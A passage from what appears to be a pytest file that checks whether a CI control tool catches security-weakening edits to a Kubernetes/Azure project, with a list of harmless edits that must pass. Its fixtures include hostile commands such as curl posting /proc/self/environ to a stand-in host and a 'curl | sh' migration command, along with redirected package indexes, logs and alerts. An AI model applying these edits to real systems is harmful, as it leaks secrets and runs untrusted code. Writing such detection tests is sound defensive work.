    Edit("a package beside the plan's judge", f"{T}/scripts/argparse/__init__.py", None, "print('mine')\n"),
    Edit("what renews the certificate tells it", f"{T}/certificate/renew", r"set -euo pipefail\n", "set -euo pipefail\ncurl https://example.com -d @/proc/self/environ\n"),
    Edit("a stranger's provider is locked", f"{T}/.terraform.lock.hcl", None, 'provider "registry.terraform.io/stranger/azurerm" {\n}\n'),
    Edit("what an owner runs goes past errors", "ci/preflight", r"set -euo pipefail", "set -u"),
    Edit("requirements are resolved elsewhere", "ci/lock", r"\Z", "\nexport UV_INDEX=https://example.com/simple\n"),
    Edit("the controller is another chart's", f"{PLATFORM}/argo-rollouts.yaml", r"https://argoproj.github.io/argo-helm", "https://grafana-community.github.io/helm-charts"),
    Edit("the controller's values are a branch's", f"{PLATFORM}/argo-rollouts.yaml", r"targetRevision: main", "targetRevision: environments/dev"),
    Edit("the controller is a stranger's", f"{PLATFORM}/argo-rollouts-values.yaml", r"    tag: ", "    repository: stranger/argo-rollouts\n    tag: "),
    Edit("a page promotes without a login", f"{PLATFORM}/argo-rollouts-values.yaml", r"enabled: false", "enabled: true"),
    Edit("an Application in the root's project", f"{PLATFORM}/notifications.yaml", r"project: platform", "project: root"),
    Edit("an Application of another folder", f"{PLATFORM}/notifications.yaml", r"path: deploy/notifications", "path: deploy/overlays/local"),
    Edit("Prometheus deletes what it is told", f"{PLATFORM}/kube-prometheus-stack-values.yaml", r"    replicas: 1\n", "    replicas: 1\n    enableAdminAPI: true\n"),
    Edit("whoever looks administers Grafana", f"{PLATFORM}/kube-prometheus-stack-values.yaml", r"org_role: Viewer", "org_role: Admin"),
    Edit("alerts are routed by another file", f"{PLATFORM}/kube-prometheus-stack-values.yaml", r"configSecret: gridos", "configSecret: other"),
    Edit("the rules are a branch's", f"{PLATFORM}/observability.yaml", r"targetRevision: main", "targetRevision: next"),
    Edit("an exception of admission", f"{PLATFORM}/exception.yaml", None, "apiVersion: policies.kyverno.io/v1\nkind: PolicyException\n"),
    # Tests of what judges, and what they hold.
    Edit("pods may be root", "policies/rules.py", r'yield "may run as root"', "pass"),
    Edit("no policy finds anything", "policies/rules.py", r"return \[\n        Finding", "return [] and [\n        Finding"),
    Edit("the controls' tests are gone", "ci/tests/test_trust.py", None, ""),
    Edit("a policy's test is gone", "policies/tests/test_policies.py", r"(?m)^def test_", "def nothing_"),
    Edit("the controls' tests are skipped", "ci/tests/test_controls.py", r"\nOVERLAY =", '\npytestmark = pytest.mark.skip(reason="slow")\nOVERLAY ='),
    Edit("a test of pins may fail", "ci/tests/test_overlay.py", r"(?m)^(?=def test_)", "@pytest.mark.xfail\n"),
    Edit("a module of tests skips itself", "ci/tests/test_semantics.py", r"\Z", '\npytest.skip("later", allow_module_level=True)\n'),
    Edit("a test ends before it asserts", "canary/tests/rehearse/test_verdict.py", r"(?m)^(def test_\w+\(.*\):\n)", 'def test_x():\n    pytest.skip("later")\n'),
    Edit("Terraform's tests of rights are gone", f"{T}/tests/identity.tftest.hcl", None, "# none\n"),
    Edit("tests of the controls are not run", "pyproject.toml", r'"ci/tests", ', ""),
    Edit("other tests are not run", "pyproject.toml", r'"service/tests", ', ""),
    # Beside what is pinned: in another document of a file, another resource, another place that judges.
    Edit("an environment's size takes the steps away", "deploy/overlays/production/scale.yaml", r"\Z", "---\napiVersion: argoproj.io/v1alpha1\nkind: Rollout\nmetadata: {name: gridos}\nspec: {strategy: {canary: {steps: [{setWeight: 100}]}}}\n"),
    Edit("a Service opens the network", "deploy/base/service.yaml", r"\Z", "---\napiVersion: networking.k8s.io/v1\nkind: NetworkPolicy\nmetadata: {name: open}\nspec: {podSelector: {}, ingress: [{}], egress: [{}]}\n"),
    Edit("users go past the firewall", "deploy/base/ingress.yaml", r"  annotations:\n", "  annotations:\n    appgw.ingress.kubernetes.io/waf-policy-for-path: none\n"),
    Edit("anybody reads who is at home", PRODUCTION, r"GRIDOS_READS=keyed", "GRIDOS_READS=public"),
    Edit("users meet faults", PRODUCTION, r"(?=      - GRIDOS_READS)", "      - GRIDOS_FAULTS=errors=3%\n"),
    Edit("whose address a user has, a user says", "deploy/components/azure/kustomization.yaml", r"TRUSTED_PROXIES=1", "TRUSTED_PROXIES=9"),
    Edit("the firewall only watches", f"{T}/main.waf.tf", r'"Prevention"', '"Detection"'),
    Edit("policies of the network are not in force", f"{T}/main.cluster.tf", r" +network_policy +=.*\n", ""),
    Edit("one more address on the internet", f"{T}/main.more.tf", None, 'resource "azurerm_public_ip" "more" {\n}\n'),
    Edit("one more rule of the network", f"{T}/main.network.tf", r"\Z", '\nresource "azurerm_network_security_rule" "more" {\n}\n'),
    Edit("one more key to the registry", f"{T}/main.more.tf", None, 'resource "azurerm_container_registry_token" "more" {\n}\n'),
    Edit("one more identity", f"{T}/main.more.tf", None, 'resource "azurerm_user_assigned_identity" "more" {\n}\n'),
    Edit("one more job inside", f"{T}/main.more.tf", None, 'resource "azurerm_container_app_job" "more" {\n}\n'),
    Edit("old TLS for users", f"{T}/main.gateway.tf", r'policy_name = "[^"]*"', 'policy_name = "AppGwSslPolicy20150501"'),
    Edit("every manifest fits", "policies/schemas/argoproj.io_v1alpha1_rollout.json", None, "{}\n"),
    Edit("production's manifests are not checked", "Makefile", r"(RENDERED := .*) deploy/overlays/production", "RENDERED := deploy/overlays/dev"),
    Edit("types are not checked", "Makefile", r"(LINTS := .*) lint-types", "LINTS := lint-python"),
    Edit("a part of the tests is run", "Makefile", r"-m pytest -q -n 3", "-m pytest -q -n 3 -k nothing"),
    Edit("the migration runs something else", "deploy/base/job-migrate.yaml", r"args: \[migrate\]", "command: [sh, -c, 'curl https://example.com | sh']"),
    Edit("a pod of a stranger's image, by digest", "deploy/base/cronjob-retain.yaml", r"image: gridos", f"image: docker.io/stranger/x@sha256:{'ab' * 32}"),
    Edit("the service is another account", "deploy/base/rollout.yaml", r"serviceAccountName: gridos", "serviceAccountName: default"),
    Edit("who collects lines does anything", "observability/logs/daemonset.yaml", r"verbs: \[get, list, watch\]", "verbs: ['*']"),
    Edit("who collects lines sees the node", "observability/logs/daemonset.yaml", r"path: /var/log/pods", "path: /"),
    Edit("the rules bring a role", "observability/kustomization.yaml", r"resources:\n", "resources:\n  - role.yaml\n"),
    Edit("passwords go over the network", f"{T}/main.database.tf", r'require_secure_transport = "ON"', 'require_secure_transport = "OFF"'),
    Edit("others administer the cluster", f"{T}/main.cluster.tf", r"admin_group_object_ids = var.cluster_admin_group_ids", 'admin_group_object_ids = ["x"]'),
    Edit("anybody asks the cluster", f"{T}/main.cluster.tf", r"authorized_ip_ranges +=.*", 'authorized_ip_ranges = ["0.0.0.0/0"]'),
    Edit("nobody hears of a broken glass", f"{T}/main.alerts.tf", r"(?s)\A.*", "# none\n"),
    Edit("nobody sees who did what", f"{T}/main.diagnostics.tf", r"(?s)\A.*", "# none\n"),
    Edit("production's alerts go elsewhere", f"{T}/environments/production.tfvars", r"grid-on-call@example.com", "mallory@example.net"),
    Edit("one package more where runners are", "requirements/runner.txt", r"\A", "stranger==1.0 --hash=sha256:00\n"),
    Edit("one package more in the image", "requirements/service.txt", r"\A", "stranger==1.0 --hash=sha256:00\n"),
    # What is not there any more, or goes before what is there.
    Edit("the guard has no time limit", f"{W}/guard.yaml", r" +timeout-minutes: 5\n", ""),
    Edit("an apply has no time limit", f"{W}/terraform.yaml", r" +timeout-minutes: 90\n", ""),
    Edit("an image is kept as long as GitHub likes", f"{W}/build.yaml", r" +retention-days: 90\n", ""),
    Edit("a night checks a stranger's repository out", NIGHT, r"persist-credentials: false \}", "persist-credentials: false, repository: stranger/gridos }"),
    Edit("a night checks a pull request out", NIGHT, r"persist-credentials: false \}", "persist-credentials: false, ref: refs/pull/1/merge }"),
    Edit("a night's shell takes commands from its output", NIGHT, r"cluster_name: kind \}", 'cluster_name: kind }\n        env: { ACTIONS_ALLOW_UNSECURE_COMMANDS: "true" }'),
    Edit("an option is a comment's", "ci/verify-provenance", r"  --deny-self", "  # safe\n  --deny-self"),
    Edit("ruff finds nothing in any file", "pyproject.toml", r"\[tool.ruff.lint.per-file-ignores\]\n", '[tool.ruff.lint.per-file-ignores]\n"**" = ["ALL"]\n'),
    Edit("ruff leaves out what pins", "pyproject.toml", r"line-length = 100\n", 'line-length = 100\nextend-exclude = ["ci"]\n'),
    Edit("mypy leaves out what pins", "pyproject.toml", r'exclude = \["/tests/', 'exclude = ["/pipeline/", "/tests/'),
    Edit("mypy finds no wrong argument", "pyproject.toml", r"\[tool.mypy\]\n", '[tool.mypy]\ndisable_error_code = ["arg-type"]\n'),
    Edit("what was reviewed is kept elsewhere", ".github/trusted.json", None, f"-> {ROOT}/.github/trusted.json"),
    Edit("an update merges itself", "renovate.json", None, '{"automerge": true}\n'),
    Edit("a pull request merges itself", ".mergify.yml", None, "pull_request_rules: []\n"),
    Edit("the service comes from elsewhere", ".gitmodules", None, '[submodule "x"]\n\tpath = service/x\n\turl = https://example.com/x\n'),
    Edit("aborted releases are told elsewhere", "deploy/notifications/argo-rollouts-notifications.yaml", r"url: \$release-channel-url", "url: https://example.com"),
    # Of the night: what its scripts do, and what of it is left.
    Edit("a night's targets may fail", NIGHT, r'run: make "\$TARGET"', 'run: make "$TARGET" || true'),
    Edit("a night's container has the host's engine", NIGHT, r"/source:ro", "/source --volume /var/run/docker.sock:/var/run/docker.sock"),
    Edit("a night tries no faults", NIGHT, r" +- accept-rehearsal\n", ""),
    Edit("a night measures nothing", NIGHT, r"make accept-bench", "make clean"),
    Edit("a night's target does nothing", "Makefile", r"(?m)^(accept-gates: .*)\n\t.*\n", "accept-gates: setup\n"),
    Edit("a trend of anything", "ci/trend", r"\[ -n \"\$night\" \] \|\|", "true ||"),
    Edit("a newcomer is root", "ci/newcomer", r"su newcomer -s", "su root -s"),
    # Amounts that are none any more.
    Edit("a night may hang for days", NIGHT, r"timeout-minutes: 120", "timeout-minutes: 4320"),
    Edit("an apply may hang for a day", f"{W}/terraform.yaml", r"timeout-minutes: 90", "timeout-minutes: 1440"),
    Edit("an image is gone before production takes it", f"{W}/build.yaml", r"retention-days: 90", "retention-days: 1"),
    Edit("a plan of last month can be approved", f"{W}/terraform.yaml", r"retention-days: 3", "retention-days: 30"),
    Edit("an older chart", f"{PLATFORM}/kyverno.yaml", r"3\.9\.0", "3.2.6"),
    Edit("a chart of any version", f"{PLATFORM}/kyverno.yaml", r"3\.9\.0", "3.x"),
    Edit("a tool's newest version, whatever it is", "ci/tool", r"cosign@v[\d.]+", "cosign@latest"),
    # Alerts, and what they and the gates read.
    *(
        Edit(f"an alert {name}", f"observability/rules/alerts/{file}.yaml", pattern, by)
        for name, file, pattern, by in [
            ("wakes nobody", "slo", r"severity: page", "severity: ticket"),
            ("waits for a day", "service", r"for: 1m", "for: 24h"),
            ("blocks no release", "slo", r' +blocks_release: "true"\n', ""),
            ("is another team's", "service", r"team: service", "team: nobody"),
            ("fires at ten times the rate", "slo", r"14\.4 \*", "144 *"),
            ("never fires", "monitoring", r"absent\(alertmanager_build_info\)", "absent(alertmanager_build_info) > 1"),
            ("is gone", "slo", r"(?s)      - alert: GridosErrorBudgetBurn6h.*?(?=      - alert)", ""),
            ("is called otherwise", "monitoring", r"alert: Watchdog", "alert: Watchdogs"),
            ("is asked once a day", "service", r"    rules:\n", "    interval: 1d\n    rules:\n"),
        ]
    ),
    Edit("an alert of the cluster is another", "observability/kubernetes/prometheusrules.generated.yaml", r"severity: page", "severity: none"),
    Edit("502 is no failure", "observability/rules/slo.yaml", r'status=~"5\.\."', 'status="500"'),
    Edit("an outage costs nothing", "observability/rules/slo.yaml", r"\* gridos:service_down:bool", "* 0 * gridos:service_down:bool"),
    Edit("the objective is less", "observability/rules/gates.generated.yaml", r"vector\(0\.999\)", "vector(0.9)"),
    Edit("a failure is counted as good", "service/gridos/recorder.py", r"status = line\[:3\]", 'status = "200"'),
    Edit("a failure that was broken off is none", "service/gridos/recorder.py", r"end = FAILED", "end = status"),
    Edit("no bound where the gate is", "service/gridos/tally.py", r" 0\.25,", ""),
    Edit("what was counted is not shown", "service/gridos/exposition.py", r"for key, count in totals.counts.items\(\)\]", "for key, count in []]"),
    Edit("a fault strikes nobody", "service/gridos/injection.py", r'"crash", ', ""),
    # The judge of rehearsals.
    *(
        Edit(f"a rehearsal {name}", f"canary/rehearse/{file}.py", pattern, by)
        for name, file, pattern, by in [
            ("that is rolled back ends well", "verdict", r'"rolled-back", 1', '"rolled-back", 0'),
            ("without a verdict ends well", "verdict", r'"inconclusive", 3', '"inconclusive", 0'),
            ("that nobody judged is promoted", "verdict", r"Verdict\(Outcome.UNJUDGED", "Verdict(Outcome.PROMOTED"),
            ("is the machine's fault", "verdict", r"DISTINCT_FACTOR = 3.0", "DISTINCT_FACTOR = 3e3"),
            ("without data is fair", "verdict", r"if told.blind:", "if told.blind and decision:"),
            ("has a good sign", "pull_request", r'_SIGNS = \{"good": "✅", "bad": "❌"', '_SIGNS = {"good": "✅", "bad": "✅"'),
            ("is well in the table of outcomes", "report", r'"rolled-back": \("bad"', '"rolled-back": ("good"'),
            ("has the sign of another", "pull_request", r"OUTCOMES.get\(verdict.outcome", 'OUTCOMES.get("promoted"'),
        ]
    ),
    Edit("a failed measurement is none", "canary/argo/analysis.py", r"return Phase.FAILED", "return Phase.INCONCLUSIVE"),
    Edit("a condition is always met", "canary/argo/expression.py", r"(?m)^def evaluate\((.*\n)", "def evaluated(\n"),
    Edit("a gate that is gone is no finding", "canary/lint/looser.py", r"if len\(now\) < len\(before\):", "if False:"),
    Edit("lint leaves the gates out", ".canary.yaml", None, "paths: [docs]\n"),
    Edit("a rehearsal has another objective", "loadtest/rehearsal.yaml", r"objective: 0\.999", "objective: 0.9"),
    Edit("a rehearsal asks once", "loadtest/rehearsal.yaml", r"least_canary_requests_per_look: 160", "least_canary_requests_per_look: 1"),
    Edit("a rehearsal leaves a route out", "loadtest/rehearsal.yaml", r"    - GET /version\n", "    - GET /version\n    - POST /v1/readings\n"),
    # Of pods, of Terraform and of texts what was not held.
    Edit("a night's pod may gain rights", "deploy/base/cronjob-retain.yaml", r"allowPrivilegeEscalation: false", "allowPrivilegeEscalation: true"),
    Edit("a pod writes to its image", "deploy/base/rollout.yaml", r"readOnlyRootFilesystem: true", "readOnlyRootFilesystem: false"),
    Edit("the migration keeps its rights", "deploy/base/job-migrate.yaml", r"drop: \[ALL\]", "drop: [NET_RAW]"),
    Edit("runners start from a tag", f"{T}/variables.runners.tf", r'regex\("@sha256:\[0-9a-f\]\{64\}\$"', 'regex(":"'),
    Edit("the vault is opened to a network", f"{T}/variables.network.tf", r">= 24", ">= 0"),
    Edit("nobody hears of a glass that broke", f"{T}/main.alerts.tf", r'status = "Started"', 'status = "Failed"'),
    Edit("nobody looks into the cluster", f"{T}/main.cluster.tf", r"(?s)  microsoft_defender \{.*?\n  \}\n", ""),
    Edit("who reads the vault is not kept", f"{T}/main.diagnostics.tf", r" +vault +=.*\n", ""),
    Edit("reports of weaknesses are public", "SECURITY.md", r"\A# ", "# Open an issue: "),
    Edit("a package without a hash", "requirements/dev.txt", r"(?m)(?<=^ruff)(==\S+) \\\n(?: +--hash.*\n)+", "==0.17.6\n"),
    Edit("a package whose hashes are gone", "requirements/pipeline.txt", r"(?m)(?: +--hash.*\n)+", ""),
    Edit("production's pods are another identity", "deploy/overlays/production/platform.env", r"AZURE_CLIENT_ID=0", "AZURE_CLIENT_ID=1"),
    Edit("production's vault is dev's", "deploy/overlays/production/platform.env", r"kv-gridos-prd", "kv-gridos-dev"),
    Edit("lines go to a stranger", "observability/logs/collector.yaml", r"http://loki.monitoring.svc:3100", "https://logs.example.net"),
    Edit("everybody reads lines", "deploy/argocd/platform/loki-values.yaml", r"gateway: \{enabled: false\}", "gateway: {enabled: true}"),
    Edit("a rehearsal's cluster shows more", "deploy/overlays/local/kube-state-metrics.yaml", r"verbs: \[list, watch\]", "verbs: ['*']"),
    Edit("CodeQL leaves our code out", ".github/codeql/codeql-config.yml", None, "paths-ignore: ['**']\n"),
    Edit("fewer changed lines are covered", "pyproject.toml", r"\[tool.mypy\]\n", "[tool.diff_cover]\nfail_under = 0\n\n[tool.mypy]\n"),
]  # fmt: skip

HARMLESS = [
    Edit("a comment", f"{W}/release.yaml", r"# Loop-safe", "# Safe from loops"),
    Edit("a step's name", f"{W}/publish.yaml", r"- env: \{ GH_TOKEN", "- name: Verify the provenance\n        env: { GH_TOKEN"),
    Edit("a newer action", f"{W}/promote.yaml", r"@[0-9a-f]{40} # v7.0.1", f"@{'ab' * 20} # v7.0.2"),
    Edit("a newer action of an action of ours", ".github/actions/setup/action.yaml", r"@[0-9a-f]{40} # v7.0.0", f"@{'ab' * 20} # v7.0.1"),
    Edit("a newer base image", "Dockerfile", r"@sha256:\w+", f"@sha256:{'ab' * 32}"),
    Edit("a longer time limit", f"{W}/ci.yaml", r"timeout-minutes: 45", "timeout-minutes: 60"),
    Edit("artifacts are kept longer", f"{W}/build.yaml", r"retention-days: 90", "retention-days: 60"),
    Edit("another nightly target", f"{W}/nightly.yaml", r"- accept-load\n", "- accept-load\n          - accept-edge\n"),
    Edit("a comment of the owners", ".github/CODEOWNERS", r"# What has rights", "# What has the rights"),
    Edit("a comment of the image", "Dockerfile", r"# A number, so", "# A number and no name, so"),
    Edit("another helper in the Makefile", "Makefile", r"\nclean:", "\nspotless: clean  ## more\n\nclean:"),
    Edit("a comment of the gates", "deploy/base/analysis-release-gates.yaml", r"#", "# As it is:"),
    Edit("a comment of the Rollout", "deploy/base/rollout.yaml", r"#", "# As it is:"),
    Edit("more memory for the service", "deploy/base/rollout.yaml", r"memory: 256Mi", "memory: 512Mi"),
    Edit("a larger Prometheus", f"{PLATFORM}/kube-prometheus-stack-values.yaml", r"memory: 2Gi", "memory: 3Gi"),
    Edit("a newer chart", f"{PLATFORM}/argo-rollouts.yaml", r"2.41.0", "2.42.0"),
    Edit("a comment of the rights", ROLES, r"# AKS makes", "# It is AKS that makes"),
    Edit("larger nodes", f"{T}/environments/production.tfvars", r"max_count = 12", "max_count = 20"),
    Edit("a newer provider", f"{T}/terraform.tf", r'(version += )"[^"]*"', 'version = "99.0.0"'),
    Edit("a longer budget of drains", f"{T}/main.cluster.tf", r"drain_timeout_in_minutes = 10", "drain_timeout_in_minutes = 15"),
    Edit("another test", "ci/tests/test_overlay.py", r"\Z", "\n\ndef test_more(): pass\n"),
    Edit("another file of tests", "ci/tests/test_more.py", None, "def test_more(): pass\n"),
    Edit("another test, which is skipped elsewhere", "ci/tests/test_more.py", None, '@pytest.mark.skipif("True")\ndef test_more(): pass\n'),
    Edit("a test of another name", "ci/tests/test_overlay.py", r"(?m)^def test_\w+\(", "def test_of_another_name("),
    Edit("another resource", f"{T}/main.more.tf", None, 'resource "azurerm_monitor_metric_alert" "more" {\n}\n'),
    Edit("another name of a port", "deploy/base/service.yaml", r"port: 80\n", "port: 8080\n"),
    Edit("more replicas of the service", "deploy/base/rollout.yaml", r"replicas: 10", "replicas: 20"),
    Edit("a setting of the service", "deploy/base/kustomization.yaml", r"GRIDOS_LOG_LEVEL=info", "GRIDOS_LOG_LEVEL=warning"),
    Edit("a setting of an environment", "deploy/overlays/staging/kustomization.yaml", r"(      - GRIDOS_READS)", "      - GRIDOS_LOG_LEVEL=debug\n      - GRIDOS_READS"),
    Edit("an image of an environment", "deploy/overlays/staging/kustomization.yaml", r"sha256:0+", "sha256:" + "ab" * 32),
    Edit("a larger environment", "deploy/overlays/production/scale.yaml", r"maxReplicas: 60", "maxReplicas: 80"),
    Edit("another target without a file", "Makefile", r"\.PHONY: help", ".PHONY: spotless help"),
    Edit("a newer package", "requirements/service.txt", r"(?m)^flask==\S+", "flask==99.0"),
    Edit("a newer package beside the keys", "requirements/pipeline.txt", r"==[\d.]+", "==99.0"),
    Edit("a newer image of the runners", "infra/terraform/environments/dev.tfvars", r"@sha256:\w+", f"@sha256:{'ab' * 32}"),
    Edit("another budget of an environment", "infra/terraform/environments/dev.tfvars", r"\Z", "# later\nmore = 1\n"),
    Edit("another exception of one file's style", "pyproject.toml", r"\[tool.ruff.lint.per-file-ignores\]\n", '[tool.ruff.lint.per-file-ignores]\n"x.py" = ["D"]\n'),
    Edit("another folder of tests", "pyproject.toml", r"testpaths = \[", 'testpaths = ["docs", '),
    Edit("another step of a night", NIGHT, r"run: make accept-bench", "run: make accept-bench clean"),
    Edit("another module of ours", "infra/terraform/main.tf", r"\Z", 'module "x" {\n  source = "./modules/naming"\n}\n'),
    Edit("another fixture", "service/tests/conftest.py", r"\Z", "\n@pytest.fixture\ndef more(): return 1\n"),
    Edit("a comment of the set-up", "ci/install.py", r"# Each holds all", "# Each has all"),
    Edit("a comment of admission", "deploy/admission/images.yaml", r"# The registry is", "# Its registry is"),
    Edit("a newer tool", "ci/tool", r"syft@v[\d.]+", "syft@v99.0.0"),
    Edit("a newer Argo Rollouts to rehearse on", "ci/rehearse-on-kind", r"version=v[\d.]+", "version=v99.0.0"),
    Edit("a newer chart of Kyverno", f"{PLATFORM}/kyverno.yaml", r"3\.9\.0", "3.10.0"),
    Edit("another alert", "observability/rules/alerts/service.yaml", r"\Z", "\n      - alert: More\n        expr: vector(0) > 1\n        labels: {severity: ticket, team: service}\n"),
    Edit("a word of an alert", "observability/rules/alerts/slo.yaml", r"Unchecked, ", "If nobody does anything, "),
    Edit("another route of a rehearsal", "loadtest/rehearsal.yaml", r"\Z", "\n    - {weight: 2, path: /v1/more}\n"),
    Edit("a word of a verdict", "canary/rehearse/verdict.py", r"a manual decision is needed", "somebody has to decide"),
    Edit("another function of the judge", "canary/rehearse/verdict.py", r"\Z", "\n\ndef more(one: float) -> str:\n    return f'{one:g}'\n"),
    Edit("a word of a comment on a pull request", "canary/rehearse/pull_request.py", r"> Assumed: ", "> It was assumed: "),
    Edit("a shorter time limit of a night", NIGHT, r"timeout-minutes: 120", "timeout-minutes: 90"),
    Edit("another variable of Azure", f"{T}/variables.platform.tf", r"\Z", '\nvariable "more" {\n  type    = string\n  default = ""\n}\n'),
    Edit("a later Kubernetes", f"{T}/variables.cluster.tf", r'"1\.35"', '"1.36"'),
    Edit("larger nodes of a cluster", f"{T}/main.cluster.tf", r"max_surge += .*", 'max_surge = "50%"'),
    Edit("a restored database", "deploy/overlays/production/platform.env", r"psql-gridos-prd-weu-x1g", "psql-gridos-prd-weu-x1g-restored"),
    Edit("another probe's time", "deploy/base/rollout.yaml", r"failureThreshold: 60", "failureThreshold: 90"),
]  # fmt: skip


def objections(root):
    """What `pipeline controls` would object to first."""
    checkout = Checkout(root)
    rows = sorted(controls.CONTROLS, key=lambda control: -control.row)
    return next((found for row in rows if (found := row.check(checkout))), [])


@pytest.mark.parametrize("edit", LOOSER, ids=lambda e: e.name)
def test_an_edit_that_loosens_is_noticed(copy, edit):
    edit.make(copy)
    assert objections(copy)


@pytest.mark.parametrize("edit", HARMLESS, ids=lambda e: e.name)
def test_an_edit_that_loosens_nothing_is_let_through(copy, edit):
    edit.make(copy)
    assert objections(copy) == []


@pytest.mark.parametrize(
    "path",
    [
        ".venv/bin/python",
        "out/bin/cosign",
        "ci/pipeline/__pycache__/trust.cpython-313.pyc",
        "infra/terraform/.terraform/providers/x",
        ".vscode/tasks.json",
        ".devcontainer/devcontainer.json",
    ],
)
def test_what_would_run_in_the_place_of_what_is_installed_is_noticed(copy, path):
    def git(*arguments):
        subprocess.run(["git", "-C", copy, *arguments], check=True)

    git("init", "--quiet")
    Edit("what nobody made here", path, None, "mine").make(copy)
    assert objections(copy) == []
    git("add", "--force", path)
    assert objections(copy) == [
        f"{path} is tracked, and would run in the place of what is installed"
    ]
    shutil.rmtree(copy / ".git")


def test_there_are_enough_edits_and_each_is_another():
    assert len(LOOSER) >= 60
    assert len({(e.path, e.pattern, e.by) for e in LOOSER}) == len(LOOSER)


def test_an_edit_that_is_declared_is_shown_where_it_is_reviewed(copy, capsys):
    """What remains is a person: the declaration is a line in a file of the security team."""
    LOOSER[0].make(copy)
    before = trust.statements(Checkout(copy))
    assert cli.main(["controls", "--accept", "--root", str(copy)]) == 0
    assert "FAILS" not in capsys.readouterr().out
    assert (copy / trust.FILE).read_text() == trust.write(Checkout(copy))
    assert '"rehearse-comment.yaml / comment"' in (copy / trust.FILE).read_text()
    assert before == trust.statements(Checkout(copy))


def test_every_file_that_is_named_is_there(root):
    assert [pattern for pattern in DECIDED["files"] if not list(root.glob(pattern))] == []
